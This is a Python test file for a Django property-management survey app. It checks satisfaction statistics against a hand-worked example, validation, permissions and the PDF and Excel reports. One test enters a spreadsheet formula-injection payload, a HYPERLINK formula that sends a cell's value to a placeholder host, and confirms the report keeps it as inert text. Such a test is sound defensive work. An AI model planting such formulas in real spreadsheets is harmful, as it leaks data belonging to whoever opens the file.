"""Survey campaigns (F42) against a hand-computed example, bad input, the report (PDF
and Excel), and engagement activities (F43)."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from huiyin.cases.models import Case
from huiyin.core.errors import ApplicationError, PermissionDeniedError, ValidationFailed
from huiyin.orgs.roles import Role
from huiyin.surveys import report, selectors, services
from huiyin.surveys.models import Activity, ActivityOpinion, SurveyResponse
from tests.conftest import make_staff
from tests.handling.test_document_texts import _need_tool, _run, _squash
from tests.stale import refused_as_stale, two_saves

pytestmark = pytest.mark.django_db

S, B, D = "satisfied", "basically_satisfied", "dissatisfied"
AREAS = ["power", "water", "fire_security", "sanitation", "greening", "public_facilities", "repair", "attitude"]


def row(*values):
    return {code: v for code, v in zip(AREAS, values, strict=False) if v}


# The example, worked by hand (- = left blank):
#          power water fire sanit green public repair attitude   opinion
# P001 pp   S     S     B    D     S     -      S      S         电梯经常坏，希望尽快修好
# P002 pp   S     D     S    D     B     S      B      S         楼道灯不亮；电梯经常坏
# web 1     B     S     S    B     S     D      D      D         维修师傅态度差
# web 2     S     S     -    S     -     S      S      B         (none)
# per area (满意+基本满意)/answered: power 4/4, water 3/4, fire 3/3, sanitation 2/4,
# greening 3/3, public 2/3, repair 3/4, attitude 3/4;
# overall 23/29 = 79.3 %; returned 4 of 10 handed out = 40.0 %;
# common opinion: 电梯经常坏 (in 2 questionnaires; its shorter parts say nothing more).
EXPECTED = {
    "power": (4, 4),
    "water": (3, 4),
    "fire_security": (3, 3),
    "sanitation": (2, 4),
    "greening": (3, 3),
    "public_facilities": (2, 3),
    "repair": (3, 4),
    "attitude": (3, 4),
}


@pytest.fixture
def campaign(property_rules, leader):
    today = timezone.localdate()
    return services.campaign_create(
        actor=leader,
        title="2026 年度业主意见调查",
        starts_on=today - timedelta(days=3),
        ends_on=today + timedelta(days=10),
        audience="全体业主",
        audience_size=10,
    )


@pytest.fixture
def answered(campaign, leader):
    services.response_enter(
        actor=leader,
        campaign_id=campaign.pk,
        paper_number="P001",
        answers=row(S, S, B, D, S, "", S, S),
        opinion="电梯经常坏，希望尽快修好",
    )
    services.response_enter(
        actor=leader,
        campaign_id=campaign.pk,
        paper_number="P002",
        answers=row(S, D, S, D, B, S, B, S),
        opinion="楼道灯不亮；电梯经常坏",
    )
    first, second = (
        u.rsplit("/", 2)[-2] for u in services.invitations_issue(actor=leader, campaign_id=campaign.pk, count=2)
    )
    services.response_submit(token=first, answers=row(B, S, S, B, S, D, D, D), opinion="维修师傅态度差")
    services.response_submit(token=second, answers=row(S, S, "", S, "", S, S, B))
    return campaign


def test_the_property_campaign_asks_the_eight_areas(campaign):
    assert [a["label"] for a in campaign.areas] == [
        "供电管理",
        "供水管理",
        "消防治安管理",
        "卫生管理",
        "绿化管理",
        "公共设施管理",
        "维修服务",
        "服务态度",
    ]
    assert campaign.report_to == "业主委员会"


def test_statistics_match_the_hand_computed_example(answered):
    stats = selectors.campaign_stats(answered)
    assert (stats.responses, stats.paper, stats.online) == (4, 2, 2)
    assert (stats.response_rate.numerator, stats.response_rate.denominator) == (4, 10)
    assert {a.code: (a.rate.numerator, a.rate.denominator) for a in stats.areas} == EXPECTED
    assert (stats.overall.numerator, stats.overall.denominator) == (23, 29)
    assert stats.overall.percent == "79.3%"
    sanitation = next(a for a in stats.areas if a.code == "sanitation")
    assert sanitation.counts == {S: 1, B: 1, D: 2}
    assert [(c.phrase, c.count) for c in stats.common] == [("电梯经常坏", 2)]
    assert stats.opinions == 3


@pytest.mark.parametrize(
    "answers, field",
    [
        ({"power": "very_satisfied"}, "area_power"),  # off the scale
        ({"lift": S}, "answers"),  # not an area of this questionnaire
        ({}, "answers"),  # empty
    ],
)
def test_an_answer_out_of_range_is_refused_and_nothing_counted(campaign, leader, answers, field):
    with pytest.raises(ValidationFailed) as info:
        services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="P009", answers=answers)
    assert info.value.field == field
    assert not SurveyResponse.objects.exists()


def test_a_paper_questionnaire_and_an_online_link_count_once(answered, leader):
    with pytest.raises(ValidationFailed, match="P001 已经录入过") as info:
        services.response_enter(actor=leader, campaign_id=answered.pk, paper_number="P001", answers=row(S))
    assert info.value.field == "paper_number"
    token = services.invitations_issue(actor=leader, campaign_id=answered.pk, count=1)[0].rsplit("/", 2)[-2]
    services.response_submit(token=token, answers=row(D))
    with pytest.raises(ApplicationError, match="只能填写一次"):
        services.response_submit(token=token, answers=row(S))
    with pytest.raises(ApplicationError, match="无效"):
        services.response_submit(token="not-a-token", answers=row(S))
    assert SurveyResponse.objects.filter(campaign=answered).count() == 5


def test_links_stop_at_the_deadline_and_a_closed_campaign_takes_no_papers(campaign, leader, time_machine):
    token = services.invitations_issue(actor=leader, campaign_id=campaign.pk, count=1)[0].rsplit("/", 2)[-2]
    time_machine.move_to(timezone.now() + timedelta(days=12))
    with pytest.raises(ApplicationError, match="截止"):
        services.response_submit(token=token, answers=row(S))
    services.campaign_close(actor=leader, campaign_id=campaign.pk)
    with pytest.raises(ApplicationError, match="已结束"):
        services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="P100", answers=row(S))
    assert not SurveyResponse.objects.exists()


def test_only_the_service_centre_runs_a_survey(property_rules, org, departments, leader):
    handler = make_staff(org, "h2", [Role.HANDLER], departments["city"])
    with pytest.raises(PermissionDeniedError):
        services.campaign_create(
            actor=handler,
            title="x",
            starts_on=date(2026, 1, 1),
            ends_on=date(2026, 2, 1),
            audience="全体业主",
            audience_size=5,
        )
    with pytest.raises(ValidationFailed) as info:
        services.campaign_create(
            actor=leader,
            title="年度调查",
            starts_on=date(2026, 3, 1),
            ends_on=date(2026, 2, 1),
            audience="全体业主",
            audience_size=0,
        )
    assert set(info.value.errors) == {"ends_on", "audience_size"}


def test_rectification_items_have_owners_and_due_dates(answered, leader, head, departments):
    with pytest.raises(ValidationFailed) as info:
        services.item_add(
            actor=leader,
            campaign_id=answered.pk,
            problem="卫生清扫不及时",
            department_id=None,
            due_on=timezone.localdate() - timedelta(days=1),
        )
    assert set(info.value.errors) == {"department", "due_on"}
    item = services.item_add(
        actor=leader,
        campaign_id=answered.pk,
        area="sanitation",
        problem="卫生清扫不及时",
        measure="增加一次午间清扫",
        department_id=departments["city"].pk,
        due_on=timezone.localdate() + timedelta(days=30),
    )
    from huiyin.core.models import Notification

    assert Notification.objects.filter(recipient=head, key=f"survey-item:{item.pk}").exists()
    other = make_staff(answered.organization, "other", [Role.DEPT_HEAD], departments["housing"])
    with pytest.raises(PermissionDeniedError):
        services.item_done(actor=other, item_id=item.pk, note="已整改")
    services.item_done(actor=head, item_id=item.pk, note="已增加午间清扫")
    item.refresh_from_db()
    assert item.status == "done"


def test_the_excel_report_carries_the_same_figures(answered, leader, departments):
    from openpyxl import load_workbook

    services.item_add(
        actor=leader,
        campaign_id=answered.pk,
        area="water",
        problem="二次供水水箱清洗不及时",
        department_id=departments["city"].pk,
        due_on=timezone.localdate() + timedelta(days=14),
    )
    book = load_workbook(io.BytesIO(report.render_xlsx(answered, selectors.campaign_stats(answered))))
    assert book.sheetnames == ["汇总", "分项满意率", "共性意见", "整改事项", "答卷"]
    summary = {r[0]: r[1] for r in book["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["发放份数"] == "10" and summary["回收率"] == "40.0%（4/10）"
    assert summary["总满意率（数值）"] == pytest.approx(23 / 29)
    areas = {r[0]: r[1:] for r in book["分项满意率"].iter_rows(min_row=2, values_only=True)}
    assert areas["卫生管理"] == (1, 1, 2, 4, 0.5)
    assert areas["公共设施管理"][3:] == (3, pytest.approx(2 / 3))
    assert book["分项满意率"]["F2"].number_format == "0.0%"
    assert [r[:2] for r in book["共性意见"].iter_rows(min_row=2, values_only=True)] == [("电梯经常坏", 2)]
    assert [r[1] for r in book["整改事项"].iter_rows(min_row=2, values_only=True)] == ["二次供水水箱清洗不及时"]
    answers = list(book["答卷"].iter_rows(min_row=2, values_only=True))
    assert len(answers) == 4 and answers[0][2] == "P001" and answers[0][6] == "不满意"  # P001 卫生管理


def test_the_pdf_report_shows_the_figures_in_chinese(answered):
    _need_tool("pdftotext")
    pdf = report.render_pdf(answered, selectors.campaign_stats(answered), "幸福里物业服务中心")
    text = _squash(_run("pdftotext", "-", "-", content=pdf))
    for expected in (
        "2026年度业主意见调查结果报告",
        "报送：业主委员会",
        "总满意率",
        "79.3%（23/29）",
        "40.0%（4/10）",
        "卫生管理",
        "50.0%",
        "电梯经常坏",
        "暂无整改事项",
    ):
        assert expected in text, expected


def test_the_campaign_page_and_the_owners_questionnaire(answered, leader, client):
    client.force_login(leader)
    page = client.get(f"/surveys/{answered.pk}/").content.decode()
    assert "79.3%（23/29）" in page and "电梯经常坏" in page
    response = client.post(f"/surveys/{answered.pk}/responses/", {"paper_number": "P003", "area_power": "great"})
    assert response.status_code == 400  # the campaign page again, the refusal named, nothing counted
    assert "“供电管理”的回答只能是满意、基本满意或不满意" in response.content.decode()
    assert SurveyResponse.objects.filter(campaign=answered).count() == 4
    token = services.invitations_issue(actor=leader, campaign_id=answered.pk, count=1)[0].rsplit("/", 2)[-2]
    client.logout()
    form = client.get(f"/survey/{token}/").content.decode()
    assert "供电管理" in form and "服务态度" in form
    done = client.post(f"/survey/{token}/", {"area_power": S, "opinion": "很好"}).content.decode()
    assert "问卷已提交" in done
    again = client.get(f"/survey/{token}/")
    assert again.status_code == 400 and "只能填写一次" in again.content.decode()
    assert client.get(f"/surveys/{answered.pk}/report.xlsx").status_code == 302  # staff only: to the login


# --- engagement activities (F43) -----------------------------------------------------------------


def test_activities_follow_the_presets_plan_and_opinions_become_cases(property_rules, leader, org):
    today = timezone.localdate()
    progress = {p["kind"].code: p for p in selectors.activity_plan_progress(org.pk, property_rules.preset().engagement)}
    assert set(progress) == {"residents_meeting", "building_heads_meeting", "head_door_visit", "area_visit"}
    assert (progress["residents_meeting"]["required"], progress["residents_meeting"]["held"]) == (1, 0)
    with pytest.raises(ValidationFailed) as info:
        services.activity_plan(actor=leader, kind="picnic", planned_on=None)
    assert set(info.value.errors) == {"kind", "planned_on"}
    meeting = services.activity_plan(
        actor=leader, kind="residents_meeting", planned_on=today, place="会所二楼", led_by_id=leader.pk
    )
    with pytest.raises(ApplicationError, match="先登记活动记录"):
        services.activity_opinion_to_case(actor=leader, activity_id=meeting.pk, text="地下车库照明不足")
    with pytest.raises(ValidationFailed) as info:
        services.activity_record(
            actor=leader, activity_id=meeting.pk, held_on=today + timedelta(days=1), attendance=0, minutes=" "
        )
    assert set(info.value.errors) == {"held_on", "attendance", "minutes"}
    assert Activity.objects.get(pk=meeting.pk).held_on is None  # refused: nothing recorded
    services.activity_record(
        actor=leader,
        activity_id=meeting.pk,
        held_on=today,
        attendance=23,
        attendees="各栋楼长及业主代表",
        minutes="听取意见 6 条，当场答复 4 条。",
        expected_version=meeting.version,
    )
    case = services.activity_opinion_to_case(
        actor=leader,
        activity_id=meeting.pk,
        text="地下车库照明不足，晚上看不清",
        nature="suggestion",
        name="王芳",
        phone="13900001111",
    )
    assert case.channel == "visit" and "住户座谈会" in case.text and case.state == "registered"
    assert ActivityOpinion.objects.get(case=case).activity_id == meeting.pk
    progress = {p["kind"].code: p for p in selectors.activity_plan_progress(org.pk, property_rules.preset().engagement)}
    assert (progress["residents_meeting"]["held"], progress["residents_meeting"]["short"]) == (1, 0)
    assert Case.objects.count() == 1


def test_periods_are_calendar_months_quarters_and_years():
    assert selectors.period_of("quarter", date(2026, 11, 23)) == (date(2026, 10, 1), date(2027, 1, 1))
    assert selectors.period_of("year", date(2026, 2, 1)) == (date(2026, 1, 1), date(2027, 1, 1))
    assert selectors.period_of("half_year", date(2026, 7, 1)) == (date(2026, 7, 1), date(2027, 1, 1))
    assert selectors.period_of("month", date(2026, 12, 5)) == (date(2026, 12, 1), date(2027, 1, 1))


def test_common_opinions_group_the_same_opinion_and_skip_bare_words():
    opinions = [
        "楼道灯不亮，报修好几次了",
        "楼道灯不亮，报修好几次了",
        "楼道灯不亮，晚上出入不方便",
        "希望增加夜间巡逻",
        "希望尽快修好",
        "希望加快办理",
    ]
    common = selectors.common_opinions(opinions)
    assert [(c.phrase, c.count) for c in common] == [
        ("楼道灯不亮", 3),  # a clause shared by different opinions
        ("楼道灯不亮，报修好几次了", 2),  # the same opinion twice: one entry, not its parts
    ]
    assert common[1].examples == ["楼道灯不亮，报修好几次了"]  # distinct quotes only
    # 希望 recurs three times but is no opinion (under three characters)


# --- bad input: nothing counted past the handed-out number, nothing cut short ------------------


def test_links_and_papers_never_exceed_the_number_handed_out(answered, leader):
    # 10 handed out: 2 papers and 2 links are out, so 6 more at most
    with pytest.raises(ValidationFailed, match="最多还可增加 6 份") as info:
        services.invitations_issue(actor=leader, campaign_id=answered.pk, count=7)
    assert info.value.field == "count"
    services.invitations_issue(actor=leader, campaign_id=answered.pk, count=6)
    with pytest.raises(ValidationFailed) as info:
        services.response_enter(actor=leader, campaign_id=answered.pk, paper_number="P011", answers=row(S))
    assert info.value.field == "paper_number"
    assert SurveyResponse.objects.filter(campaign=answered).count() == 4
    with pytest.raises(ValidationFailed) as info:  # not below what is already out
        services.campaign_set_audience_size(actor=leader, campaign_id=answered.pk, audience_size=9)
    assert info.value.field == "audience_size"
    services.campaign_set_audience_size(actor=leader, campaign_id=answered.pk, audience_size=12)
    services.response_enter(actor=leader, campaign_id=answered.pk, paper_number="P011", answers=row(S))
    answered.refresh_from_db()
    stats = selectors.campaign_stats(answered)
    assert (stats.response_rate.numerator, stats.response_rate.denominator) == (5, 12)


def test_overlong_text_is_refused_naming_the_field_not_cut(property_rules, leader, departments):
    today = timezone.localdate()
    with pytest.raises(ValidationFailed) as info:
        services.campaign_create(
            actor=leader,
            title="调" * 121,
            starts_on=today,
            ends_on=today,
            audience="业" * 201,
            audience_size=5,
            extra_areas="电梯运行" * 11,
        )
    assert set(info.value.errors) == {"title", "audience", "extra_areas"}
    assert "最多 120 字，当前 121 字" in info.value.errors["title"][0]
    campaign = services.campaign_create(
        actor=leader, title="调查", starts_on=today, ends_on=today, audience="全体业主", audience_size=5
    )
    with pytest.raises(ValidationFailed) as info:
        services.item_add(
            actor=leader,
            campaign_id=campaign.pk,
            problem="问" * 2001,
            measure="措" * 2001,
            department_id=departments["city"].pk,
            due_on=today,
        )
    assert set(info.value.errors) == {"problem", "measure"}
    with pytest.raises(ValidationFailed) as info:
        services.activity_plan(actor=leader, kind="residents_meeting", planned_on=today, place="会" * 121)
    assert set(info.value.errors) == {"place"}
    assert not Activity.objects.exists() and not campaign.items.exists()


def test_read_only_staff_cannot_mark_an_item_put_right(answered, leader, analyst, departments):
    item = services.item_add(
        actor=leader,
        campaign_id=answered.pk,
        problem="卫生清扫不及时",
        department_id=departments["city"].pk,
        due_on=timezone.localdate(),
    )
    with pytest.raises(PermissionDeniedError):
        services.item_done(actor=analyst, item_id=item.pk, note="已整改")
    item.refresh_from_db()
    assert item.status == "open"


def test_an_opinion_form_sent_twice_registers_one_case(property_rules, leader, client):
    meeting = services.activity_plan(actor=leader, kind="residents_meeting", planned_on=timezone.localdate())
    services.activity_record(
        actor=leader, activity_id=meeting.pk, held_on=timezone.localdate(), attendance=5, minutes="听取意见 1 条。"
    )
    client.force_login(leader)
    page = client.get("/surveys/").content.decode()
    token = f'-{meeting.pk}"'
    assert token in page  # the form carries its one-use token
    form = {"text": "地下车库照明不足", "nature": "suggestion", "intake_token": f"a1b2c3-{meeting.pk}"}
    first = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
    second = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
    assert first.status_code == second.status_code == 302 and first.url == second.url
    assert Case.objects.count() == 1 and ActivityOpinion.objects.count() == 1


def test_owners_text_lands_in_excel_as_text_never_as_a_formula(campaign, leader):
    from openpyxl import load_workbook

    services.response_enter(
        actor=leader,
        campaign_id=campaign.pk,
        paper_number="=1+1",
        answers=row(S),
        opinion='=HYPERLINK("http://x.example/?"&B2,"查看")',
    )
    book = load_workbook(io.BytesIO(report.render_xlsx(campaign, selectors.campaign_stats(campaign))))
    cells = list(book["答卷"][2])
    assert cells[2].value == "=1+1" and cells[2].data_type == "s"
    assert cells[-1].value.startswith("=HYPERLINK") and cells[-1].data_type == "s"


def test_links_are_shown_once_and_kept_nowhere_but_as_hashes(campaign, leader, client):
    from django.contrib.sessions.models import Session

    client.force_login(leader)
    response = client.post(f"/surveys/{campaign.pk}/invitations/", {"count": "3"})
    page = response.content.decode()
    assert response.status_code == 200 and page.count("/survey/") >= 3
    tokens = [u.rsplit("/", 2)[-2] for u in __import__("re").findall(r"https?://[^<\s]+/survey/[^<\s/]+/", page)]
    assert len(tokens) == 3
    stored = "".join(s.session_data for s in Session.objects.all())
    assert not any(t in stored for t in tokens)  # not in the session store
    assert client.get(f"/surveys/{campaign.pk}/").content.decode().count("/survey/") == 0  # shown once
    for bad in ("²", "99999999999999999999", "1001"):
        refused = client.post(f"/surveys/{campaign.pk}/invitations/", {"count": bad})
        assert refused.status_code == 400 and campaign.invitations.count() == 3
    page = refused.content.decode()
    assert 'data-error-for="count"' in page
    assert "“链接数量”应为不超过 1000 的整数：1001" in page  # the bound it says is the bound it checks


# --- two people correcting the same campaign ---------------------------------------------------


def test_the_second_of_two_corrections_of_the_audience_size_is_refused(campaign, leader, org):
    first, second = Client(), Client()
    first.force_login(leader)
    second.force_login(make_staff(org, "leader_2", [Role.LEADER]))
    saves = two_saves(
        first,
        second,
        page=reverse("surveys:campaign", args=[campaign.pk]),
        post=reverse("surveys:audience_size", args=[campaign.pk]),
        data=lambda who: {"audience_size": "40" if who == "first" else "25"},
    )
    assert saves.first.status_code == 302
    assert refused_as_stale(saves.second)
    assert 'value="25"' in saves.second.content.decode()  # what the second typed is still there
    campaign.refresh_from_db()
    assert campaign.audience_size == 40


def test_a_correction_of_the_audience_size_without_its_version_is_refused(campaign, leader, client):
    client.force_login(leader)
    response = client.post(reverse("surveys:audience_size", args=[campaign.pk]), {"audience_size": "40"})
    assert response.status_code == 400 and "表单缺少有效的版本号" in response.content.decode()
    campaign.refresh_from_db()
    assert campaign.audience_size == 10
